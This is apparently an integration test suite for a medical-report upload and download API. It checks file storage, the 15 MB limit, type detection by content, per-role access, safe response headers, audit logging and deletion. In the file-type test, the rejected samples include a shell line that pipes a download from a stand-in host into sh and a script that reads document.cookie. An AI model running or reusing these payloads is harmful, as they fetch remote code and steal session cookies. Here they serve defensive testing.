import {
  ApiErrorBody, MAX_REPORT_BYTES, MedicalReport, Messages, ProfileAccessLogListResponse, ReportPaths, ReportTexts,
} from '@cqa/contracts';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import http from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DataSource } from 'typeorm';
import { RunningApi, startApi } from '../../../test/api-harness';
import { call, createUser, signIn, TestUser } from '../../../test/accounts-helpers';
import { startWorker } from '../../../test/worker-harness';
import type { INestApplicationContext } from '@nestjs/common';

const PDF_HEAD = Buffer.from('%PDF-1.7\n');
const PNG_HEAD = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');
/** A file of `size` bytes starting with `head`, the rest random. */
const fileOf = (head: Buffer, size: number) => Buffer.concat([head, randomBytes(size - head.length)]);

interface Upload {
  file?: { data: Buffer; name: string; type?: string };
  reportType?: string;
  userId?: string;
  extraFile?: boolean;
}

function form(upload: Upload): FormData {
  const body = new FormData();
  if (upload.reportType !== undefined) body.append('report_type', upload.reportType);
  if (upload.userId !== undefined) body.append('user_id', upload.userId);
  if (upload.file) body.append('file', new Blob([upload.file.data], { type: upload.file.type ?? 'application/octet-stream' }), upload.file.name);
  if (upload.extraFile) body.append('file2', new Blob([PDF_HEAD], { type: 'application/pdf' }), 'second.pdf');
  return body;
}

describe('medical reports', () => {
  let api: RunningApi;
  let ds: DataSource;
  let worker: INestApplicationContext;
  let reportsDir: string;
  let patientA: TestUser;
  let patientB: TestUser;
  let expert: TestUser;
  let admin: TestUser;
  const token = {} as Record<'a' | 'b' | 'expert' | 'admin', string>;
  const patientIdOf = {} as Record<'a' | 'b', string>;

  beforeAll(async () => {
    reportsDir = await mkdtemp(path.join(tmpdir(), 'cqa-reports-it-'));
    api = await startApi({ REPORTS_STORAGE: 'local', REPORTS_DIR: reportsDir });
    // Removes the files of deleted reports (the report-file-delete job).
    worker = await startWorker({ REPORTS_STORAGE: 'local', REPORTS_DIR: reportsDir });
    ds = api.app.get(DataSource);
    [patientA, patientB, expert, admin] = await Promise.all([
      createUser(api, 'patient', { label: 'pa' }), createUser(api, 'patient', { label: 'pb' }), createUser(api, 'expert'), createUser(api, 'admin'),
    ]);
    token.a = (await signIn(api, patientA)).token;
    token.b = (await signIn(api, patientB)).token;
    token.expert = (await signIn(api, expert)).token;
    token.admin = (await signIn(api, admin)).token;
    patientIdOf.a = (await ds.query('SELECT id FROM patients WHERE user_id = ?', [patientA.id]))[0].id;
    patientIdOf.b = (await ds.query('SELECT id FROM patients WHERE user_id = ?', [patientB.id]))[0].id;
  }, 90000);
  afterAll(async () => {
    await worker?.close();
    await api.close();
    await rm(reportsDir, { recursive: true, force: true });
  });

  async function upload(bearer: string, body: Upload) {
    const res = await fetch(`${api.baseUrl}${ReportPaths.upload}`, { method: 'POST', headers: { authorization: `Bearer ${bearer}` }, body: form(body) });
    const text = await res.text();
    return { status: res.status, body: (text ? JSON.parse(text) : undefined) as MedicalReport & ApiErrorBody };
  }

  async function download(bearer: string, id: string, query = '') {
    const res = await fetch(`${api.baseUrl}${ReportPaths.file(id)}${query}`, { headers: { authorization: `Bearer ${bearer}` } });
    return { status: res.status, headers: res.headers, data: Buffer.from(await res.arrayBuffer()) };
  }

  /** Every stored file (finished or partial) under REPORTS_DIR. */
  async function storedFiles(): Promise<string[]> {
    const entries = await readdir(reportsDir, { recursive: true, withFileTypes: true });
    return entries.filter((e) => e.isFile()).map((e) => path.relative(reportsDir, path.join(e.parentPath, e.name))).sort();
  }
  const rowCount = async () => Number((await ds.query('SELECT COUNT(*) AS n FROM medical_reports'))[0].n);

  /** Waits until storage and table are back to what they were and stay so (the server finishes a dropped upload on its own time). */
  async function expectNothingKeptSince(before: { files: string[]; rows: number }): Promise<void> {
    let stableSince = 0;
    for (const started = Date.now(); Date.now() - started < 15_000;) {
      const same = JSON.stringify(await storedFiles()) === JSON.stringify(before.files) && (await rowCount()) === before.rows;
      if (!same) stableSince = 0;
      else if (stableSince === 0) stableSince = Date.now();
      else if (Date.now() - stableSince > 750) return;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect({ files: await storedFiles(), rows: await rowCount() }).toEqual(before);
  }
  const snapshot = async () => ({ files: await storedFiles(), rows: await rowCount() });

  describe('upload', () => {
    it('stores a PDF under a random name with its sha256, the file name only in the database', async () => {
      const data = fileOf(PDF_HEAD, 200_000);
      const before = await snapshot();
      const res = await upload(token.a, { reportType: 'Pathology Reports', file: { data, name: 'Biopsy result – Dr. Müller.pdf', type: 'application/pdf' } });
      expect(res.status).toBe(201);
      expect(res.body).toEqual({
        id: expect.stringMatching(/^[0-9a-f-]{36}$/), file_name: 'Biopsy result – Dr. Müller.pdf', report_type: 'Pathology Reports',
        upload_date: expect.any(String), file_size: data.length, content_type: 'application/pdf', sha256: sha256(data),
      });
      expect(Date.now() - Date.parse(res.body.upload_date)).toBeLessThan(60_000);
      const files = await storedFiles();
      const added = files.filter((f) => !before.files.includes(f));
      expect(added).toHaveLength(1);
      expect(added[0]).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{32}$/);
      const [row] = await ds.query('SELECT patient_id, uploaded_by, file_name, file_size, sha256, storage_key FROM medical_reports WHERE id = ?', [res.body.id]);
      expect(row).toMatchObject({ patient_id: patientIdOf.a, uploaded_by: patientA.id, file_name: 'Biopsy result – Dr. Müller.pdf', sha256: sha256(data) });
      expect(Number(row.file_size)).toBe(data.length);
      expect(added[0]).toBe(`${row.storage_key.slice(0, 2)}/${row.storage_key}`);
      const stored = await download(token.a, res.body.id);
      expect(sha256(stored.data)).toBe(res.body.sha256);
    });

    it("reads the spec's default 'Lab Results' as Laboratory Reports and refuses unknown types", async () => {
      const ok = await upload(token.a, { reportType: 'Lab Results', file: { data: fileOf(PDF_HEAD, 100), name: 'cbc.pdf' } });
      expect(ok.body.report_type).toBe('Laboratory Reports');
      const before = await snapshot();
      const bad = await upload(token.a, { reportType: 'X-rays', file: { data: fileOf(PDF_HEAD, 100), name: 'x.pdf' } });
      expect([bad.status, bad.body.message]).toEqual([400, ReportTexts.reportTypeInvalid]);
      const missing = await upload(token.a, { file: { data: fileOf(PDF_HEAD, 100), name: 'x.pdf' } });
      expect([missing.status, missing.body.message]).toEqual([400, ReportTexts.reportTypeInvalid]);
      expect(await snapshot()).toEqual(before);
    });

    it('accepts exactly 15 MB and refuses one byte more with the spec text, keeping nothing', async () => {
      const exact = await upload(token.a, { reportType: 'Radiology Reports', file: { data: fileOf(PDF_HEAD, MAX_REPORT_BYTES), name: 'ct.pdf' } });
      expect(exact.status).toBe(201);
      expect(exact.body.file_size).toBe(15 * 1024 * 1024);

      const before = await snapshot();
      const over = await upload(token.a, { reportType: 'Radiology Reports', file: { data: fileOf(PDF_HEAD, MAX_REPORT_BYTES + 1), name: 'ct.pdf' } });
      expect(over.status).toBe(413);
      expect(over.body.message).toBe('File is too large. Maximum allowed size is 15MB.');
      await expectNothingKeptSince(before);

      const far = await upload(token.a, { reportType: 'Radiology Reports', file: { data: fileOf(PDF_HEAD, MAX_REPORT_BYTES + 3 * 1024 * 1024), name: 'mri.pdf' } });
      expect([far.status, far.body.message]).toEqual([413, Messages.validation.fileTooLarge]);
      await expectNothingKeptSince(before);
    });

    it('judges the type by content: a PNG named .pdf is a PNG (and named .png), a script named .png is refused', async () => {
      const png = fileOf(PNG_HEAD, 5000);
      const renamed = await upload(token.a, { reportType: 'Radiology Reports', file: { data: png, name: 'xray.pdf', type: 'application/pdf' } });
      expect(renamed.status).toBe(201);
      expect(renamed.body).toMatchObject({ content_type: 'image/png', file_name: 'xray.png', sha256: sha256(png) });
      expect((await download(token.a, renamed.body.id)).headers.get('content-type')).toBe('image/png');

      const before = await snapshot();
      for (const [data, name, type] of [
        [Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'scan.png', 'image/png'],
        [Buffer.from('<html><script>alert(document.cookie)</script></html>'), 'report.pdf', 'application/pdf'],
        [Buffer.from('GIF89a......'), 'photo.jpg', 'image/jpeg'],
        [Buffer.alloc(0), 'empty.pdf', 'application/pdf'],
      ] as const) {
        const refused = await upload(token.a, { reportType: 'Other Medical Report', file: { data, name, type } });
        expect([name, refused.status, refused.body.message]).toEqual([name, 415, 'Invalid file type. Only PDF, JPG, JPEG, and PNG files are allowed.']);
      }
      const bigScript = await upload(token.a, { reportType: 'Other Medical Report', file: { data: fileOf(Buffer.from('MZ'), 3_000_000), name: 'setup.png' } });
      expect(bigScript.status).toBe(415);
      await expectNothingKeptSince(before);
    });

    it('takes one file at a time and needs a file and a multipart body', async () => {
      const before = await snapshot();
      const two = await upload(token.a, { reportType: 'Oncology Reports', file: { data: fileOf(PDF_HEAD, 1000), name: 'a.pdf' }, extraFile: true });
      expect([two.status, two.body.message]).toEqual([400, ReportTexts.oneFileOnly]);
      const none = await upload(token.a, { reportType: 'Oncology Reports' });
      expect([none.status, none.body.message]).toEqual([400, 'No file selected or user not authenticated.']);
      const noBoundary = await call<ApiErrorBody>(api, 'POST', ReportPaths.upload, { token: token.a, headers: { 'content-type': 'multipart/form-data' } });
      expect([noBoundary.status, noBoundary.body.message]).toEqual([400, ReportTexts.malformed]);
      const emptyForm = await call<ApiErrorBody>(api, 'POST', ReportPaths.upload, { token: token.a, headers: { 'content-type': 'multipart/form-data; boundary=abc' } });
      expect([emptyForm.status, emptyForm.body.message]).toEqual([400, Messages.errors.noFileOrUser]);
      const json = await call<ApiErrorBody>(api, 'POST', ReportPaths.upload, { token: token.a, body: { report_type: 'Oncology Reports' } });
      expect([json.status, json.body.message]).toEqual([415, ReportTexts.multipartRequired]);
      await expectNothingKeptSince(before);
    });

    it('leaves no file and no row when the client drops the connection mid-file', async () => {
      const before = await snapshot();
      const { socket } = await sendPartially(token.a, fileOf(PDF_HEAD, 8 * 1024 * 1024), 3 * 1024 * 1024);
      // The server has started writing: a partial file exists.
      await waitFor(async () => (await storedFiles()).some((f) => f.startsWith('.partial/')));
      socket.destroy();
      await expectNothingKeptSince(before);
    });

    it('leaves no file and no row when the client drops the connection after the file but before the form ends', async () => {
      const before = await snapshot();
      const data = fileOf(PDF_HEAD, 1024 * 1024);
      const { socket } = await sendPartially(token.a, data, 'all-but-closing');
      // The whole file reached storage; the request never finished, so it must be discarded, not recorded.
      await waitFor(async () => (await storedFiles()).filter((f) => !f.startsWith('.partial/')).length > before.files.length);
      socket.destroy();
      await expectNothingKeptSince(before);
    });

    it('lets a patient upload only for themself, and an admin for a named patient', async () => {
      const forOther = await upload(token.a, { reportType: 'Oncology Reports', userId: patientB.id, file: { data: fileOf(PDF_HEAD, 100), name: 'x.pdf' } });
      expect([forOther.status, forOther.body.message]).toEqual([403, 'Medical reports are only visible to the patient.']);
      const adminNoTarget = await upload(token.admin, { reportType: 'Oncology Reports', file: { data: fileOf(PDF_HEAD, 100), name: 'x.pdf' } });
      expect([adminNoTarget.status, adminNoTarget.body.message]).toEqual([400, ReportTexts.userIdRequired]);
      const adminUnknown = await upload(token.admin, { reportType: 'Oncology Reports', userId: expert.id, file: { data: fileOf(PDF_HEAD, 100), name: 'x.pdf' } });
      expect([adminUnknown.status, adminUnknown.body.message]).toEqual([404, Messages.errors.patientNotFound]);
      const byAdmin = await upload(token.admin, { reportType: 'Oncology Reports', userId: patientB.id, file: { data: fileOf(PDF_HEAD, 100), name: 'plan.pdf' } });
      expect(byAdmin.status).toBe(201);
      const [row] = await ds.query('SELECT patient_id, uploaded_by FROM medical_reports WHERE id = ?', [byAdmin.body.id]);
      expect(row).toEqual({ patient_id: patientIdOf.b, uploaded_by: admin.id });
      const byExpert = await upload(token.expert, { reportType: 'Oncology Reports', userId: patientB.id, file: { data: fileOf(PDF_HEAD, 100), name: 'x.pdf' } });
      expect(byExpert.status).toBe(403);
    });
  });

  describe('who reaches which report', () => {
    let reportA: MedicalReport;
    const pdf = fileOf(PDF_HEAD, 4321);

    beforeAll(async () => {
      reportA = (await upload(token.a, { reportType: 'Laboratory Reports', file: { data: pdf, name: 'Blutbild "März"; 2026.pdf' } })).body;
    });

    const list = (bearer: string, query = '') => call<MedicalReport[] & ApiErrorBody>(api, 'GET', `${ReportPaths.list}${query}`, { token: bearer });

    it('lists a patient their own reports newest first, and refuses them anyone else’s', async () => {
      const own = await list(token.a);
      expect(own.status).toBe(200);
      expect(own.body[0]).toEqual(reportA);
      const dates = own.body.map((r) => Date.parse(r.upload_date));
      expect([...dates].sort((x, y) => y - x)).toEqual(dates);
      expect((await list(token.a, `?user_id=${patientA.id}`)).body).toEqual(own.body);

      for (const query of [`?user_id=${patientB.id}`, `?patient_id=${patientIdOf.b}`]) {
        const other = await list(token.a, query);
        expect([other.status, other.body.message]).toEqual([403, 'Medical reports are only visible to the patient.']);
      }
      expect((await list(token.b)).body.map((r) => r.id)).not.toContain(reportA.id);
    });

    it("lets experts and admins list any patient's reports by user id (or patient id)", async () => {
      const byExpert = await list(token.expert, `?user_id=${patientA.id}`);
      expect(byExpert.status).toBe(200);
      expect(byExpert.body.map((r) => r.id)).toContain(reportA.id);
      expect((await list(token.admin, `?patient_id=${patientIdOf.a}`)).body).toEqual(byExpert.body);
      const nobody = await list(token.expert);
      expect([nobody.status, nobody.body.message]).toEqual([400, ReportTexts.whoseReports]);
      const notAPatient = await list(token.expert, `?user_id=${expert.id}`);
      expect([notAPatient.status, notAPatient.body.message]).toEqual([404, Messages.errors.patientNotFound]);
      expect((await list(token.expert, '?user_id=nope')).status).toBe(400);
    });

    it('serves the file to its patient, experts and admins with safe headers; another patient gets Report not found', async () => {
      for (const bearer of [token.a, token.expert, token.admin]) {
        const res = await download(bearer, reportA.id);
        expect(res.status).toBe(200);
        expect(sha256(res.data)).toBe(reportA.sha256);
        expect(res.data.equals(pdf)).toBe(true);
        expect(res.headers.get('content-type')).toBe('application/pdf');
        expect(res.headers.get('content-length')).toBe(String(pdf.length));
        expect(res.headers.get('content-disposition')).toBe(
          `inline; filename="Blutbild _Marz_; 2026.pdf"; filename*=UTF-8''Blutbild%20%22M%C3%A4rz%22%3B%202026.pdf`,
        );
        expect(res.headers.get('x-content-type-options')).toBe('nosniff');
        expect(res.headers.get('cache-control')).toBe('private, no-store');
        expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
      }
      expect((await download(token.a, reportA.id, '?download=true')).headers.get('content-disposition')).toMatch(/^attachment; /);

      const other = await download(token.b, reportA.id);
      expect(other.status).toBe(404);
      expect(JSON.parse(other.data.toString()).message).toBe('Report not found');
      expect((await download(token.a, '00000000-0000-4000-8000-000000000000')).status).toBe(404);
      expect((await download(token.a, 'not-a-uuid')).status).toBe(404);
      expect((await fetch(`${api.baseUrl}${ReportPaths.file(reportA.id)}`)).status).toBe(401);
    });

    it("writes others' listing and opening to the audit trail, never the patient's own", async () => {
      const logs = await call<ProfileAccessLogListResponse>(api, 'GET', `/api/admin/profile-access-logs?patient_id=${patientIdOf.a}&per_page=100`, { token: token.admin });
      const entries = logs.body.logs.map((l) => [l.user_id, l.action, l.detail]);
      expect(entries).toEqual(expect.arrayContaining([
        [expert.id, 'report.list', null],
        [admin.id, 'report.list', null],
        [expert.id, 'report.download', reportA.id],
        [admin.id, 'report.download', reportA.id],
      ]));
      expect(entries.filter(([user]) => user === patientA.id)).toEqual([]);
      // Health data stays out of the trail: no file names.
      expect(JSON.stringify(logs.body)).not.toContain('Blutbild');
    });

    it('deletes only for the owner or an admin, removing file and row together', async () => {
      const doomed = (await upload(token.a, { reportType: 'Oncology Reports', file: { data: fileOf(PDF_HEAD, 999), name: 'old.pdf' } })).body;
      const key = (await ds.query('SELECT storage_key FROM medical_reports WHERE id = ?', [doomed.id]))[0].storage_key as string;
      const hasFile = async () => (await storedFiles()).includes(`${key.slice(0, 2)}/${key}`);
      expect(await hasFile()).toBe(true);

      const byOther = await call<ApiErrorBody>(api, 'DELETE', ReportPaths.one(doomed.id), { token: token.b });
      expect([byOther.status, byOther.body.message]).toEqual([404, 'Report not found']);
      expect((await call(api, 'DELETE', ReportPaths.one(doomed.id), { token: token.expert })).status).toBe(403);
      const wrongPatient = await call<ApiErrorBody>(api, 'DELETE', `${ReportPaths.one(doomed.id)}?patient_id=${patientIdOf.b}`, { token: token.a });
      expect([wrongPatient.status, wrongPatient.body.message]).toEqual([404, 'Report not found']);
      expect(await hasFile()).toBe(true);

      const byOwner = await call(api, 'DELETE', `${ReportPaths.one(doomed.id)}?patient_id=${patientIdOf.a}`, { token: token.a });
      expect(byOwner.status).toBe(204);
      await waitFor(async () => !(await hasFile()));
      expect(await ds.query('SELECT id FROM medical_reports WHERE id = ?', [doomed.id])).toEqual([]);
      const again = await call<ApiErrorBody>(api, 'DELETE', ReportPaths.one(doomed.id), { token: token.a });
      expect([again.status, again.body.message]).toEqual([404, 'Report not found']);

      const forAdmin = (await upload(token.b, { reportType: 'Oncology Reports', file: { data: fileOf(PDF_HEAD, 99), name: 'b.pdf' } })).body;
      expect((await call(api, 'DELETE', ReportPaths.one(forAdmin.id), { token: token.admin })).status).toBe(204);
      expect((await download(token.b, forAdmin.id)).status).toBe(404);
      const logs = await call<ProfileAccessLogListResponse>(api, 'GET', `/api/admin/profile-access-logs?patient_id=${patientIdOf.b}&user_id=${admin.id}`, { token: token.admin });
      expect(logs.body.logs.map((l) => [l.action, l.detail])).toContainEqual(['report.delete', forAdmin.id]);
    });
  });

  /** Sends the upload with a Content-Length for the whole body but writes only part of it, then leaves the socket open. */
  function sendPartially(bearer: string, data: Buffer, upTo: number | 'all-but-closing'): Promise<{ socket: import('node:net').Socket }> {
    const boundary = `----cqa${randomBytes(8).toString('hex')}`;
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="report_type"\r\n\r\nOther Medical Report\r\n`
      + `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="dropped.pdf"\r\nContent-Type: application/pdf\r\n\r\n`,
    );
    const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
    const body = Buffer.concat([head, data, tail]);
    const url = new URL(`${api.baseUrl}${ReportPaths.upload}`);
    return new Promise((resolve, reject) => {
      const request = http.request({
        host: url.hostname, port: url.port, path: url.pathname, method: 'POST',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': body.length },
      });
      request.on('error', () => undefined);
      request.on('socket', (socket) => {
        const sent = upTo === 'all-but-closing' ? head.length + data.length + `\r\n--${boundary}`.length : head.length + upTo;
        request.write(body.subarray(0, sent), (error) => (error ? reject(error) : resolve({ socket })));
      });
    });
  }
});

async function waitFor(condition: () => Promise<boolean>, timeoutMs = 10_000): Promise<void> {
  for (const started = Date.now(); Date.now() - started < timeoutMs;) {
    if (await condition()) return;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('condition not met in time');
}
